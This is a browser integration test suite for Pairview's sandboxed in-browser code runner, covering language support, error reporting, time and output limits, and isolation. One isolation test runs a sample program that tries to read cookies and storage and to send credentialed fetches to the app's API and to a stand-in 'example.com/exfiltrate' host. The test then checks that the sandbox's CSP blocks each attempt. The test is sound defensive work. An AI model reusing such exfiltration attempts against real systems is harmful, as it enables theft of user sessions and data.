/**
 * The in-browser code runner in Debian's Chromium, served by the real Pairview server app from a production
 * build (runner.html, runner-assets/ with pyodide and sql.js): the real runner-client.ts on a page of Pairview's
 * origin drives the sandboxed runner iframe.
 *
 * The host page is the test's own (runner-host.ts: no room page imports the runner yet), served by the same app
 * with the app page's exact headers, running runner-client.ts from the source.
 *
 * Isolation is checked from inside the runner: the program cannot read Pairview's cookie or localStorage and
 * cannot reach /api/me with the member's cookie. Which failure and why: the runner's CSP refuses the request
 * before it leaves the browser (a `securitypolicyviolation` on connect-src, fetch rejects with a TypeError), so
 * the server never sees it — while the same fetch from the Pairview page, with the same cookie, answers 200.
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SESSION_COOKIE } from '../../server/src/auth/sessions.ts';
import { webApp } from '../../server/src/web/plugin.ts';
import { buildTestApp, createMigratedDatabase, createPerson, sessionCookie, type MigratedTestDatabase } from '../../server/test/helpers.ts';
import { CHROMIUM_ARGS, chromiumPath } from '../../../test-support/chromium.ts';
import type { RunRequest } from '../src/room/runner-client.ts';
import { buildWebAppForTest } from './production-build.ts';
import { openRunnerHost, runOnPage, runnerTestHost, type ObservedRun } from './runner-host.ts';

let database: MigratedTestDatabase;
let app: FastifyInstance;
let base: string;
let distDir: string;
let userDataDir: string;
let context: BrowserContext;
let page: Page;
/** Every path the server was asked for, to show what never reached it. */
const requests: string[] = [];

/** A run through the page's runner, with the chunks onOutput saw. */
function run(request: RunRequest): Promise<ObservedRun> {
  return runOnPage(page, request);
}

function expectChunksMakeOutput(result: ObservedRun) {
  expect(result.chunks.join('')).toBe(result.output);
}

beforeAll(async () => {
  distDir = await buildWebAppForTest('pairview-runner-dist-');
  database = await createMigratedDatabase('pv_runner');
  app = await buildTestApp(database, { plugins: [webApp({ distDir }), runnerTestHost({ onRequest: (url) => requests.push(url) })] });
  await app.listen({ port: 0, host: '127.0.0.1' });
  base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;

  const member = await createPerson(database.db, { name: 'Alice Wang', wecomUserId: 'alice' });
  const cookie = await sessionCookie(app, database.db, member.id);

  userDataDir = mkdtempSync(join(tmpdir(), 'pairview-runner-'));
  context = await chromium.launchPersistentContext(userDataDir, {
    executablePath: chromiumPath(),
    headless: true,
    args: CHROMIUM_ARGS,
    viewport: { width: 1280, height: 800 },
  });
  context.setDefaultTimeout(20_000);
  await context.addCookies([{ name: SESSION_COOKIE, value: cookie.slice(SESSION_COOKIE.length + 1), url: base, httpOnly: true, sameSite: 'Lax' }]);
  page = context.pages()[0] ?? (await context.newPage());
  await openRunnerHost(page, base);
  await page.evaluate(() => localStorage.setItem('pairview-canary', 'local-storage-canary'));
}, 120_000);

afterAll(async () => {
  await context?.close();
  await app?.close();
  await database?.drop();
  for (const dir of [userDataDir, distDir]) if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('the in-browser runner', () => {
  it('runs JavaScript: console output formatted as Node does, stdin through readline(), timers awaited', async () => {
    const result = await run({
      language: 'javascript',
      code: [
        "console.log('hello', 1 + 2, { a: [1, 2], b: 'x' }, new Map([['k', 1]]));",
        'console.error("to stderr %d%%", 42);',
        'const name = readline();',
        'console.log(`hi ${name}, then ${readline()}, then ${readline()}`);',
        "setTimeout(() => console.log('later'), 50);",
        'await Promise.resolve();',
        "console.log('top level await works');",
      ].join('\n'),
      stdin: 'Ada\nGrace\n',
    });
    expect(result.output).toBe("hello 3 { a: [ 1, 2 ], b: 'x' } Map(1) { 'k' => 1 }\nto stderr 42%\nhi Ada, then Grace, then null\ntop level await works\nlater\n");
    expect(result).toMatchObject({ status: 'ok', truncated: false });
    expect(result.durationMs).toBeGreaterThan(0);
    expectChunksMakeOutput(result);
  });

  it('runs TypeScript with types, interfaces, enums, generics and parameter properties (types stripped, not checked)', async () => {
    const result = await run({
      language: 'typescript',
      code: [
        'interface Point { x: number; y: number }',
        'enum Color { Red, Green = 5, Blue }',
        'type Pair<T> = [T, T];',
        'class Box<T> { constructor(private readonly value: T) {} get(): T { return this.value } }',
        'function swap<T>([a, b]: Pair<T>): Pair<T> { return [b, a] }',
        'const p: Point = { x: 1, y: 2 };',
        'const wrong: number = "types are not checked" as any;',
        'console.log(p, Color.Blue, Color[5], swap<number>([1, 2]), new Box<string>("boxed").get(), wrong);',
      ].join('\n'),
      stdin: '',
    });
    expect(result.output).toBe("{ x: 1, y: 2 } 6 Green [ 2, 1 ] boxed types are not checked\n");
    expect(result.status).toBe('ok');
  });

  it('runs Python: prints, reads stdin with input() and sys.stdin, keeps no variables between runs', async () => {
    const result = await run({
      language: 'python',
      code: 'import sys\nname = input()\nprint(f"hello {name}")\nnumbers = [int(x) for x in sys.stdin.read().split()]\nprint(sum(numbers), file=sys.stderr)\nprint("中文", end="")\n',
      stdin: 'Ada\n1 2 3\n4\n',
    });
    expect(result.output).toBe('hello Ada\n10\n中文');
    expect(result).toMatchObject({ status: 'ok', truncated: false });
    expectChunksMakeOutput(result);

    // The warm interpreter: a fresh __main__ (no `name` from the last run), and stdin is this run's.
    const second = await run({ language: 'python', code: 'print("name" in globals(), __name__)\ntry:\n    input()\nexcept EOFError:\n    print("EOF")\n', stdin: '' });
    expect(second.output).toBe('False __main__\nEOF\n');
    expect(second.status).toBe('ok');

    const exit = await run({ language: 'python', code: 'import sys\nprint("bye")\nsys.exit(3)\n', stdin: '' });
    expect(exit).toMatchObject({ status: 'error', output: 'bye\n' });
  }, 90_000);

  it('runs SQL on SQLite: every statement, each result as an aligned table', async () => {
    const result = await run({
      language: 'sql',
      code: [
        'create table people (id integer primary key, name text, score real);',
        "insert into people (name, score) values ('Ada', 9.5), ('Grace Hopper', null), ('王小明', 7);",
        'select id, name, score from people order by id;',
        "select count(*) as n from people where name like 'Z%';",
      ].join('\n'),
      stdin: '',
    });
    expect(result.output).toBe(
      [
        ' id | name         | score',
        '----+--------------+-------',
        '  1 | Ada          |   9.5',
        '  2 | Grace Hopper | NULL',
        '  3 | 王小明       |     7',
        '(3 rows)',
        '',
        ' n',
        '---',
        ' 0',
        '(1 row)',
        '',
      ].join('\n'),
    );
    expect(result.status).toBe('ok');
  });

  it('reports an uncaught exception with its message and line: JavaScript, TypeScript, Python, SQL', async () => {
    const js = await run({ language: 'javascript', code: "console.log('before');\nfunction fail() {\n  throw new Error('boom');\n}\nfail();\n", stdin: '' });
    expect(js.status).toBe('error');
    expect(js.output).toMatch(/^before\nUncaught Error: boom\n\s+at fail \(main\.js:3:9\)\n\s+at main\.js:5:1\n$/);
    expect(js.output).not.toContain('blob:');

    const syntax = await run({ language: 'typescript', code: 'const a: number = 1;\nconst b = (a;\n', stdin: '' });
    expect(syntax).toMatchObject({ status: 'error' });
    expect(syntax.output).toMatch(/^SyntaxError: .*\(main\.ts:2:\d+\)\n$/);

    const asyncError = await run({ language: 'javascript', code: "setTimeout(() => { throw new TypeError('late') }, 10);\n", stdin: '' });
    expect(asyncError.status).toBe('error');
    expect(asyncError.output).toMatch(/^Uncaught TypeError: late\n\s+at main\.js:1:/);

    const rejection = await run({ language: 'javascript', code: "Promise.reject(new RangeError('nope'));\n", stdin: '' });
    expect(rejection.status).toBe('error');
    expect(rejection.output).toMatch(/^Uncaught \(in promise\) RangeError: nope/);

    const python = await run({ language: 'python', code: 'def parse(text):\n    return int(text)\n\nprint("start")\nparse("x")\n', stdin: '' });
    expect(python.status).toBe('error');
    expect(python.output).toBe(
      'start\nTraceback (most recent call last):\n  File "main.py", line 5, in <module>\n    parse("x")\n    ~~~~~^^^^^\n  File "main.py", line 2, in parse\n    return int(text)\nValueError: invalid literal for int() with base 10: \'x\'\n',
    );

    const pythonSyntax = await run({ language: 'python', code: 'print("ok"\n', stdin: '' });
    expect(pythonSyntax.status).toBe('error');
    expect(pythonSyntax.output).toContain('File "main.py", line 1');
    expect(pythonSyntax.output).toMatch(/SyntaxError: '\(' was never closed\n$/);

    const sql = await run({ language: 'sql', code: 'create table t (a int);\nselect * from t;\nselect * from missing;\nselect 1;\n', stdin: '' });
    expect(sql.status).toBe('error');
    expect(sql.output).toBe(' a\n---\n(0 rows)\nError in statement 3: no such table: missing\n  select * from missing;\n');

    const sqlSyntax = await run({ language: 'sql', code: 'select 1;\nselec 2;\n', stdin: '' });
    expect(sqlSyntax.output).toBe(' 1\n---\n 1\n(1 row)\nError in statement 2: near "selec": syntax error\n  selec 2;\n');
  }, 60_000);

  it('stops an endless loop at the time limit (JavaScript and Python), and the next run works', async () => {
    const js = await run({ language: 'javascript', code: "console.log('spinning');\nwhile (true) {}\n", stdin: '', timeoutMs: 1500 });
    expect(js).toMatchObject({ status: 'timeout', truncated: false, output: 'spinning\n[time limit exceeded: stopped after 1.5 s]\n' });
    expect(js.durationMs).toBeGreaterThanOrEqual(1500);
    expectChunksMakeOutput(js);
    expect(await run({ language: 'javascript', code: "console.log('alive')", stdin: '' })).toMatchObject({ status: 'ok', output: 'alive\n' });

    // Unbuffered: what Python printed before the loop is not lost with the worker.
    const python = await run({ language: 'python', code: 'print("spinning")\nwhile True:\n    pass\n', stdin: '', timeoutMs: 1500 });
    expect(python).toMatchObject({ status: 'timeout', output: 'spinning\n[time limit exceeded: stopped after 1.5 s]\n' });
    // A fresh worker loads Python again.
    expect(await run({ language: 'python', code: 'print(6 * 7)', stdin: '' })).toMatchObject({ status: 'ok', output: '42\n' });

    const sql = await run({
      language: 'sql',
      code: 'with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c;',
      stdin: '',
      timeoutMs: 1500,
    });
    expect(sql.status).toBe('timeout');
    expect(await run({ language: 'sql', code: 'select 2 as two;', stdin: '' })).toMatchObject({ status: 'ok', output: ' two\n-----\n   2\n(1 row)\n' });
  }, 120_000);

  it('cuts output at the cap (UTF-8 bytes), says so, and stops the program there', async () => {
    const js = await run({ language: 'javascript', code: "for (let i = 0; ; i++) console.log('line ' + i + ' 中');", stdin: '', outputLimitBytes: 4096 });
    expect(js).toMatchObject({ status: 'output_limit', truncated: true });
    const [kept, note] = [js.output.slice(0, js.output.lastIndexOf('\n[')), js.output.slice(js.output.lastIndexOf('\n[') + 1)];
    expect(new TextEncoder().encode(kept).length).toBeLessThanOrEqual(4096);
    expect(new TextEncoder().encode(kept).length).toBeGreaterThan(4000);
    expect(kept.startsWith('line 0 中\nline 1 中\n')).toBe(true);
    expect(note).toBe('[output limit reached: stopped at 4 KiB]\n');
    expectChunksMakeOutput(js);

    const python = await run({ language: 'python', code: 'while True:\n    print("x" * 100)\n', stdin: '' });
    expect(python).toMatchObject({ status: 'output_limit', truncated: true });
    expect(python.output.endsWith('\n[output limit reached: stopped at 64 KiB]\n')).toBe(true);
    expect(new TextEncoder().encode(python.output).length).toBeLessThanOrEqual(64 * 1024 + 100);
  }, 60_000);

  it('stop() ends a run as an error with a clear last line; a new run() stops the one before', async () => {
    const stopped = await page.evaluate(async () => {
      const chunks: string[] = [];
      const done = window.runner.run({ language: 'javascript', code: "console.log('working');\nwhile (true) {}", stdin: '' }, (chunk) => {
        chunks.push(chunk);
        window.runner.stop();
      });
      return { ...(await done), chunks };
    });
    expect(stopped).toMatchObject({ status: 'error', output: 'working\n[stopped]\n', truncated: false });

    const [first, second] = await page.evaluate(async () => {
      const first = window.runner.run({ language: 'javascript', code: 'while (true) {}', stdin: '' });
      await new Promise((resolve) => setTimeout(resolve, 300));
      const second = window.runner.run({ language: 'javascript', code: "console.log('second')", stdin: '' });
      return Promise.all([first, second]);
    });
    expect(first).toMatchObject({ status: 'error', output: '[stopped]\n' });
    expect(second).toMatchObject({ status: 'ok', output: 'second\n' });
  });

  it('keeps the program away from Pairview: no cookie, no storage, no API with the member\'s cookie', async () => {
    // The member's cookie works from Pairview's own page: the control.
    expect(await page.evaluate(async () => (await fetch('/api/me')).status)).toBe(200);
    const before = requests.filter((url) => url.startsWith('/api/me')).length;

    const result = await run({
      language: 'javascript',
      code: `
const violations = [];
self.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI));
console.log('origin', self.origin, typeof document, typeof localStorage, typeof document === 'undefined' ? '' : document.cookie);
try { indexedDB.open('x'); console.log('indexedDB open'); } catch (e) { console.log('indexedDB', e.name); }
for (const url of [${JSON.stringify(`${base}/api/me`)}, 'https://example.com/exfiltrate']) {
  try {
    const response = await fetch(url, { credentials: 'include' });
    console.log('fetched', url, response.status);
  } catch (e) {
    console.log('fetch failed', e.name);
  }
}
const socket = new WebSocket(${JSON.stringify(`${base.replace('http', 'ws')}/collab/x`)});
await new Promise((resolve) => { socket.onerror = () => resolve(console.log('websocket failed')); socket.onopen = () => resolve(console.log('websocket open')); });
await new Promise((resolve) => setTimeout(resolve, 100));
console.log(violations.join('\\n'));
`,
      stdin: '',
    });
    expect(result.output).toBe(
      [
        'origin null undefined undefined ',
        'indexedDB SecurityError',
        'fetch failed TypeError',
        'fetch failed TypeError',
        'websocket failed',
        `connect-src ${base}/api/me`,
        'connect-src https://example.com/exfiltrate',
        `connect-src ${base.replace('http', 'ws')}/collab/x`,
        '',
      ].join('\n'),
    );
    // Refused in the browser: the server never saw the request.
    expect(requests.filter((url) => url.startsWith('/api/me')).length).toBe(before);
    expect(requests.some((url) => url.startsWith('/collab'))).toBe(false);

    // The runner page itself (the iframe's document, where the worker is started) is an opaque origin too.
    const frame = page.frames().find((f) => f.url().endsWith('/runner.html'));
    expect(frame).toBeDefined();
    const inFrame = await frame!.evaluate(async (apiUrl) => {
      const attempt = (read: () => unknown) => {
        try {
          return `read ${String(read())}`;
        } catch (e) {
          return (e as Error).name;
        }
      };
      let fetched: string;
      try {
        fetched = `status ${(await fetch(apiUrl, { credentials: 'include' })).status}`;
      } catch (e) {
        fetched = (e as Error).name;
      }
      let parentDocument: string;
      try {
        parentDocument = String(parent.document.cookie);
      } catch (e) {
        parentDocument = (e as Error).name;
      }
      return { origin: self.origin, cookie: attempt(() => document.cookie), storage: attempt(() => localStorage.getItem('pairview-canary')), fetched, parentDocument };
    }, `${base}/api/me`);
    expect(inFrame).toEqual({ origin: 'null', cookie: 'SecurityError', storage: 'SecurityError', fetched: 'TypeError', parentDocument: 'SecurityError' });
    expect(requests.filter((url) => url.startsWith('/api/me')).length).toBe(before);
  });

  it('is sandboxed even when opened on its own, and only Pairview may frame it', async () => {
    const response = await fetch(`${base}/runner.html`);
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toContain('sandbox allow-scripts');
    expect(csp).toContain("frame-ancestors 'self'");
    expect(csp).toContain(`connect-src http://localhost:3000/runner-assets/ ${base}/runner-assets/;`);

    const alone = await context.newPage();
    try {
      await alone.goto(`${base}/runner.html`);
      expect(await alone.evaluate(() => ({ origin: self.origin, cookie: (() => { try { return document.cookie } catch (e) { return (e as Error).name } })() }))).toEqual({
        origin: 'null',
        cookie: 'SecurityError',
      });
    } finally {
      await alone.close();
    }

    // The engines' files: CORS for the opaque origin, the wasm type for streaming compilation, cached for good.
    const pyodideFolder = readdirSync(join(distDir, 'runner-assets')).find((name) => name.startsWith('pyodide-'));
    for (const [path, type] of [
      [`/runner-assets/${pyodideFolder}/pyodide.asm.wasm`, 'application/wasm'],
      [`/runner-assets/${pyodideFolder}/pyodide.mjs`, 'javascript'],
    ] as const) {
      const asset = await fetch(`${base}${path}`, { headers: { origin: 'null' } });
      expect(asset.status, path).toBe(200);
      expect(asset.headers.get('content-type'), path).toContain(type);
      expect(asset.headers.get('access-control-allow-origin'), path).toBe('*');
      expect(asset.headers.get('cache-control'), path).toBe('public, max-age=31536000, immutable');
      await asset.arrayBuffer();
    }
  });

  it('replaces a runner page that stops answering (the host\'s watchdog), and resolves the run', async () => {
    const result = await page.evaluate(async () => {
      const silent = window.createCodeRunner({ runnerUrl: '/test-runner-host/silent-runner.html' });
      const frames = () => [...document.querySelectorAll('iframe')].filter((f) => f.src.endsWith('/silent-runner.html')).length;
      const outcome = await silent.run({ language: 'javascript', code: 'while (true) {}', stdin: '', timeoutMs: 500 });
      const after = frames();
      silent.dispose();
      return { ...outcome, framesAfter: after };
    });
    expect(result).toMatchObject({ status: 'timeout', output: '[the runner stopped answering and was restarted]\n', framesAfter: 0 });
  });
});
